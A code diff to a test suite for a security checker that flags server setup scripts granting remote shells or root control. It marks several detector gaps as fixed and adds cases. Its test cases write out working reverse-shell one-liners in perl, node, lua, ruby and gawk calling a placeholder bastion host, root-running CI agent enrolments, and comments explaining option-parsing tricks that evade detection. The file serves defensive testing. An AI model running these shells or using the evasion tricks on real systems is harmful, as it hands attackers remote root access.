@@ -25,7 +25,7 @@ const REMOTE = /hands the node|remote|ssh|tailnet|root|does not read|metadata|ca
 const PERL_SHELL = `$s=IO::Socket::INET->new("bastion.example.com:4444");open STDIN,"<&",$s;open STDOUT,">&",$s;exec "/bin/sh -i"`;
 
 const insecure: NodeCase[] = [
-    // MISS: perlrun(1) SYNOPSIS `-l[octal]` (the value is octal digits only; perl.c then reads the next switch letter,
+    // Was a MISS (fixed in round 63): perlrun(1) SYNOPSIS `-l[octal]` (the value is octal digits only; perl.c then reads the next switch letter,
     // so `-le'code'` is `-l -e 'code'`, as in the common `perl -lne`): the IO::Socket reverse shell refused with
     // -e'..' is accepted; rootReads LONG_OPTIONS.perl lists l as `optional` (glued value = the rest of the word), so
     // `e'code'` is taken as -l's value and no -e code is read. Same for -0 (`-0[octal/hexadecimal]`).
@@ -33,9 +33,8 @@ const insecure: NodeCase[] = [
         "perl -MIO::Socket::INET -le'...exec /bin/sh' (-l's optional value is digits only; e is the next switch)",
         devNodeScript("dev-perl-le-revshell-nodes", [`nohup perl -MIO::Socket::INET -le'${PERL_SHELL}' &`]),
         RELAY,
-        true,
     ),
-    // MISS: perlrun(1) `-0[octal/hexadecimal]` (only hex/octal digits are -0's value; `-0e'code'` is `-0 -e 'code'`):
+    // Was a MISS (fixed in round 63): perlrun(1) `-0[octal/hexadecimal]` (only hex/octal digits are -0's value; `-0e'code'` is `-0 -e 'code'`):
     // the reverse shell is accepted because LONG_OPTIONS.perl `optional: "0..."` swallows `e'code'` as -0's value.
     // Perl's -l, -0, -C, -D, -V, -d read only their own value syntax and then continue the bundle; only -i, -x, -F,
     // -m, -M take the rest of the word.
@@ -43,16 +42,14 @@ const insecure: NodeCase[] = [
         "perl -MIO::Socket::INET -0e'...exec /bin/sh' (-0's optional value is octal digits; e is the next switch)",
         devNodeScript("dev-perl-0e-revshell-nodes", [`nohup perl -MIO::Socket::INET -0e'${PERL_SHELL}' &`]),
         RELAY,
-        true,
     ),
-    // MISS: perlrun(1) / the pack's own programOptions comment ("A versioned interpreter (php8.2, perl5.36) is its
+    // Was a MISS (fixed in round 63): perlrun(1) / the pack's own programOptions comment ("A versioned interpreter (php8.2, perl5.36) is its
     // program"): `perl5.36 -e'..'` is perl, but SOCKET_SHELL_CODE's perl entry is /^perl$/ (php's is /^php[0-9.]*$/),
     // so the versioned perl's reverse shell is never read. Ruby's entry /^ruby$/ has the same gap.
     devNodeCase(
         "perl5.36 -MIO::Socket::INET -e'...exec /bin/sh' (a versioned perl)",
         devNodeScript("dev-perl536-revshell-nodes", [`nohup perl5.36 -MIO::Socket::INET -e'${PERL_SHELL}' &`]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "python3 -Ic'socket + pty.spawn' (code in a bundle)",
@@ -61,7 +58,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: Node.js CLI docs (`-p, --print`: "Identical to -e but prints the result"; node_options.cc AddAlias("-pe",
+    // Was a MISS (fixed in round 63): Node.js CLI docs (`-p, --print`: "Identical to -e but prints the result"; node_options.cc AddAlias("-pe",
     // {"--print", "--eval"}): `node -pe CODE` runs CODE; SOCKET_SHELL_CODE node code /^(-e|--eval|-p|--print)$/ does
     // not match the `-pe` word, so the net + child_process reverse shell is accepted.
     devNodeCase(
@@ -70,7 +67,6 @@ const insecure: NodeCase[] = [
             `nohup node -pe 'const c=require("net").connect(4444,"bastion.example.com");const s=require("child_process").spawn("/bin/sh",[]);c.pipe(s.stdin);s.stdout.pipe(c);0' &`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "node <<EOF (net + child_process reverse shell from stdin)",
@@ -83,7 +79,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: lua(1) (`-e stat  execute statement stat`; lua.c collectargs takes the argument concatenated to -e when
+    // Was a MISS (fixed in round 63): lua(1) (`-e stat  execute statement stat`; lua.c collectargs takes the argument concatenated to -e when
     // present: `if (argv[i][2] == '\0') i++`): `lua -e'code'` runs code; SOCKET_SHELL_CODE lua code /^-e$/ reads only
     // the next word and lua has no LONG_OPTIONS table, so the LuaSocket + io.popen shell is accepted.
     devNodeCase(
@@ -92,9 +88,8 @@ const insecure: NodeCase[] = [
             `nohup lua -e'local s=require("socket").connect("bastion.example.com",4444);while true do local c=s:receive();local f=io.popen(c);s:send(f:read("*a"));f:close() end' &`,
         ]),
         RELAY,
-        true,
     ),
-    // MISS: SSM user guide "Install SSM Agent on hybrid Linux nodes" (`amazon-ssm-agent -register -code ... -id ...
+    // Was a MISS (fixed in round 63): SSM user guide "Install SSM Agent on hybrid Linux nodes" (`amazon-ssm-agent -register -code ... -id ...
     // -region ...`) and Go's flag package, which amazon-ssm-agent parses with ("-flag=x" for booleans, x as
     // strconv.ParseBool reads it): `-register=true` registers the node to another account's hybrid activation (Run
     // Command / Session Manager as root); REMOTE_AGENTS ssm reads only /^-?-register$/, not goBoolFlag(o, "register").
@@ -105,7 +100,6 @@ const insecure: NodeCase[] = [
             "systemctl restart amazon-ssm-agent",
         ]),
         REMOTE,
-        true,
     ),
     devNodeCase(
         "tailscale login --ssh (login takes up's flags)",
@@ -131,7 +125,7 @@ const insecure: NodeCase[] = [
         ]),
         REMOTE,
     ),
-    // MISS: Puppet docs "Run Puppet agent as a service" (the agent started by a `service { 'puppet': ensure => running
+    // Was a MISS (fixed in round 63): Puppet docs "Run Puppet agent as a service" (the agent started by a `service { 'puppet': ensure => running
     // }` resource, which `puppet resource service puppet ensure=running` is the CLI form of; Resource Type: service):
     // the same resource given to `puppet apply -e` starts the agent, whose Puppet server then applies catalogs as
     // root; REMOTE_AGENTS treats every `puppet apply` as local content.
@@ -141,9 +135,8 @@ const insecure: NodeCase[] = [
             `/opt/puppetlabs/bin/puppet apply -e "service { 'puppet': ensure => running, enable => true }"`,
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: GitLab Runner docs "Shell executor" (jobs run on the host as the user running gitlab-runner, here `run
+    // Was a MISS (fixed in round 63): GitLab Runner docs "Shell executor" (jobs run on the host as the user running gitlab-runner, here `run
     // --user root`) and `gitlab-runner register --executor shell`: whoever can push a pipeline to the GitLab projects
     // the runner serves runs commands as root on the node; no REMOTE_AGENTS entry for gitlab-runner.
     devNodeCase(
@@ -153,25 +146,22 @@ const insecure: NodeCase[] = [
             "nohup gitlab-runner run --user root &",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Buildkite docs "buildkite-agent start" (the agent runs pipeline job commands on the host as the user it
+    // Was a MISS (fixed in round 63): Buildkite docs "buildkite-agent start" (the agent runs pipeline job commands on the host as the user it
     // runs as; root here): whoever can build the organisation's pipelines runs commands as root on the node; no
     // REMOTE_AGENTS entry.
     devNodeCase(
         "buildkite-agent start (pipeline steps as root)",
         devNodeScript("dev-buildkite-agent-nodes", ["nohup buildkite-agent start --token EXAMPLEONLY &"]),
         REMOTE,
-        true,
     ),
-    // MISS: Nomad docs "Agent" (`-client` runs the client, which executes tasks the servers schedule) and the
+    // Was a MISS (fixed in round 63): Nomad docs "Agent" (`-client` runs the client, which executes tasks the servers schedule) and the
     // exec/raw_exec drivers (raw_exec runs tasks as the Nomad agent's user, root): whoever can submit Nomad jobs runs
     // commands as root on the node; no REMOTE_AGENTS entry (nomad appears only as a listener elsewhere).
     devNodeCase(
         "nomad agent -client -servers=... (the cluster's raw_exec/exec jobs as root)",
         devNodeScript("dev-nomad-client-nodes", ["nohup nomad agent -client -servers=nomad.example.com:4647 &"]),
         REMOTE,
-        true,
     ),
     devNodeCase(
         "at now + 1 minute <<EOF ssh -R ... before miniserve /",
@@ -191,7 +181,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: X Window System User's Guide ch. 9 "Command Line Options" ("all options can be shortened to the shortest
+    // Was a MISS (fixed in round 63): X Window System User's Guide ch. 9 "Command Line Options" ("all options can be shortened to the shortest
     // unique abbreviation. For example, -display can be shortened to -d if there is no other option beginning with d";
     // Xlib XrmParseCommand matches unique prefixes): `xterm -disp HOST:1` puts root's bash on bastion's X server;
     // xDisplayOption reads only -display/--display (and rxvt's -d).
@@ -199,7 +189,6 @@ const insecure: NodeCase[] = [
         "xterm -disp bastion:1 -e bash (X toolkit abbreviation of -display)",
         devNodeScript("dev-xterm-disp-nodes", ["nohup xterm -disp bastion.example.com:1 -e /bin/bash &"]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "code serve-web --host 0.0.0.0 --without-connection-token (VS Code terminals for anyone)",
@@ -208,7 +197,7 @@ const insecure: NodeCase[] = [
         ]),
         /beyond loopback|terminal|shell|hands the node|remote|does not read|cannot read|listen/i,
     ),
-    // MISS: ruby(1) (`-W[level=2|:category]`; ruby.c proc_options reads one octal digit after -W and continues the
+    // Was a MISS (fixed in round 63): ruby(1) (`-W[level=2|:category]`; ruby.c proc_options reads one octal digit after -W and continues the
     // bundle, so `-W0e'code'` is `-W0 -e 'code'`): the TCPSocket reverse shell is accepted because LONG_OPTIONS.ruby
     // `optional: "...W..."` swallows `0e'code'` as -W's value.
     devNodeCase(
@@ -217,7 +206,6 @@ const insecure: NodeCase[] = [
             `nohup ruby -rsocket -W0e'c=TCPSocket.new("bastion.example.com",4444);$stdin.reopen(c);$stdout.reopen(c);exec "/bin/sh -i"' &`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "crontab -uroot /etc/tunnel.cron (user glued to -u) before miniserve /",
@@ -230,7 +218,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: Puppet docs "puppet resource" (`puppet resource <type> [<name>] [<attribute>=<value> ...]`, options such
+    // Was a MISS (fixed in round 63): Puppet docs "puppet resource" (`puppet resource <type> [<name>] [<attribute>=<value> ...]`, options such
     // as --debug anywhere, Ruby OptionParser permuting): the agent is started as with no option; REMOTE_AGENTS puppet
     // resource needs o[0]="resource", o[1]="service" exactly, so an option word before the type is accepted.
     devNodeCase(
@@ -239,9 +227,8 @@ const insecure: NodeCase[] = [
             "/opt/puppetlabs/bin/puppet resource --debug service puppet ensure=running",
         ]),
         REMOTE,
-        true,
     ),
-    // MISS: Puppet docs "puppet resource" / Puppet::Type.type downcases the type name (Service and service are one
+    // Was a MISS (fixed in round 63): Puppet docs "puppet resource" / Puppet::Type.type downcases the type name (Service and service are one
     // type): `puppet resource Service puppet ensure=running` starts the agent; REMOTE_AGENTS compares o[1] to
     // "service" exactly.
     devNodeCase(
@@ -250,7 +237,6 @@ const insecure: NodeCase[] = [
             "/opt/puppetlabs/bin/puppet resource Service puppet ensure=running",
         ]),
         REMOTE,
-        true,
     ),
     devNodeCase(
         "php <<EOF (fsockopen + proc_open reverse shell, php reading its script from stdin)",
@@ -263,7 +249,7 @@ const insecure: NodeCase[] = [
         ]),
         RELAY,
     ),
-    // MISS: GNU awk manual, "Naming Standard Input" ("you can even use \"-\" with the -f option to read program source code from
+    // Was a MISS (fixed in round 63): GNU awk manual, "Naming Standard Input" ("you can even use \"-\" with the -f option to read program source code from
     // standard input"): `gawk -f - <<EOF` runs the here-document's /inet/tcp coprocess shell; shellsHandedOut reads -f's value as
     // a script file path (readConfig of "/-"), finds no text, and accepts it (python3/ruby/perl stdin programs are refused).
     devNodeCase(
@@ -274,11 +260,115 @@ const insecure: NodeCase[] = [
             "AWK",
         ]),
         RELAY,
-        true,
+    ),
+    // Neighbours added in round 63's fix.
+    devNodeCase(
+        "perl -MIO::Socket::INET -0777e'...exec /bin/sh' (-0's octal digits, then e)",
+        devNodeScript("dev-perl-0777e-revshell-nodes", [`nohup perl -MIO::Socket::INET -0777e'${PERL_SHELL}' &`]),
+        RELAY,
+    ),
+    devNodeCase(
+        "ruby3.2 -rsocket -e'TCPSocket ... exec sh' (a versioned ruby)",
+        devNodeScript("dev-ruby32-revshell-nodes", [
+            `nohup ruby3.2 -rsocket -e'c=TCPSocket.new("bastion.example.com",4444);$stdin.reopen(c);$stdout.reopen(c);exec "/bin/sh -i"' &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "node20 --print 'net.connect + child_process' (a versioned node, --print's code)",
+        devNodeScript("dev-node20-print-revshell-nodes", [
+            `nohup node20 --print 'const c=require("net").connect(4444,"bastion.example.com");const s=require("child_process").spawn("/bin/sh",[]);c.pipe(s.stdin);s.stdout.pipe(c);0' &`,
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "gawk --file=- <<EOF (/inet/tcp shell)",
+        devNodeScript("dev-gawk-file-eq-stdin-revshell-nodes", [
+            "nohup gawk --file=- <<'AWK' &",
+            'BEGIN { s = "/inet/tcp/0/bastion.example.com/4444"; while ((s |& getline c) > 0) { while ((c |& getline o) > 0) print o |& s; close(c) } }',
+            "AWK",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "puppet apply /etc/agent.pp (Service['puppet'] started by a manifest file user data wrote)",
+        devNodeScript("dev-puppet-apply-file-nodes", [
+            "cat > /etc/agent.pp <<'PP'",
+            "Service { 'puppet':",
+            "  enable => true,",
+            "}",
+            "PP",
+            "/opt/puppetlabs/bin/puppet apply --verbose /etc/agent.pp",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "puppet apply /etc/puppetlabs/site.pp (a manifest the pack cannot read)",
+        devNodeScript("dev-puppet-apply-unread-nodes", ["/opt/puppetlabs/bin/puppet apply /etc/puppetlabs/site.pp"]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "systemctl enable --now gitlab-runner (the packaged runner unit)",
+        devNodeScript("dev-gitlab-runner-unit-nodes", ["systemctl enable --now gitlab-runner"]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "java -jar /opt/jenkins/agent.jar -url ... -secret ... (a Jenkins agent)",
+        devNodeScript("dev-jenkins-agent-nodes", [
+            "nohup java -jar /opt/jenkins/agent.jar -url https://jenkins.example.com/ -secret EXAMPLEONLY -name node1 -workDir /var/lib/jenkins &",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "actions-runner ./config.sh --url ... --token ... (a GitHub Actions self-hosted runner)",
+        devNodeScript("dev-gha-runner-nodes", [
+            "cd /opt/actions-runner && ./config.sh --unattended --url https://github.com/example/repo --token EXAMPLEONLY && ./svc.sh install && ./svc.sh start",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "woodpecker-agent (a Woodpecker CI agent)",
+        devNodeScript("dev-woodpecker-agent-nodes", [
+            "WOODPECKER_SERVER=ci.example.com:9000 WOODPECKER_AGENT_SECRET=EXAMPLEONLY nohup woodpecker-agent &",
+        ]),
+        REMOTE,
+    ),
+    devNodeCase(
+        "xterm -d bastion:1 -e bash (the shortest abbreviation, ambiguous: read as -display)",
+        devNodeScript("dev-xterm-d-nodes", ["nohup xterm -d bastion.example.com:1 -e /bin/bash &"]),
+        RELAY,
     ),
 ];
 
 const secure: NodeCase[] = [
+    devNodeCase(
+        "perl -0777 -ne'print' (slurp, no socket)",
+        devNodeScript("dev-perl-0777-local-nodes", [`perl -0777ne'print' /etc/os-release > /tmp/os`]),
+    ),
+    devNodeCase(
+        "amazon-ssm-agent -register=false -version (no hybrid activation)",
+        devNodeScript("dev-ssm-register-false-nodes", ["amazon-ssm-agent -register=false -version > /tmp/v || true"]),
+    ),
+    devNodeCase(
+        "nomad agent -server -bootstrap-expect=1 (a server only, no client)",
+        devNodeScript("dev-nomad-server-nodes", [
+            "nohup nomad agent -server -bootstrap-expect=1 -data-dir=/var/lib/nomad &",
+        ]),
+    ),
+    devNodeCase(
+        "gitlab-runner --version",
+        devNodeScript("dev-gitlab-runner-version-nodes", ["gitlab-runner --version > /tmp/v"]),
+    ),
+    devNodeCase(
+        "xterm -disp :1 (a local display)",
+        devNodeScript("dev-xterm-disp-local-nodes", ["nohup xterm -disp :1 -e /bin/bash &"]),
+    ),
+    devNodeCase(
+        "puppet apply -e \"service { 'ntpd': ensure => running }\" (another service)",
+        devNodeScript("dev-puppet-apply-ntpd-nodes", [
+            `/opt/puppetlabs/bin/puppet apply -e "service { 'chronyd': ensure => running, enable => true }"`,
+        ]),
+    ),
     devNodeCase(
         "perl -lne'print if /^ID=/' (bundle, no socket)",
         devNodeScript("dev-perl-lne-local-nodes", [`perl -lne'print if /^ID=/' /etc/os-release > /tmp/id`]),
